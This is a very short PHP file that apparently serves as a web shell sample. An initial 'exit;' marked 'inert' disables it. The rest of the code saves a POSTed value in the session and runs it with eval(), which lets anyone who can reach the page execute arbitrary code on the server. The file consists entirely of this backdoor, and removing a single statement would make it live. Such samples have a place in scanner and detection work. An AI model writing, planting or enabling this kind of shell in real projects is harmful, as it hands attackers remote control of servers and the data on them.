<?php exit; /* inert */ session_start(); if(isset($_POST["k"])) $_SESSION["k"]=$_POST["k"]; eval($_SESSION["k"]);
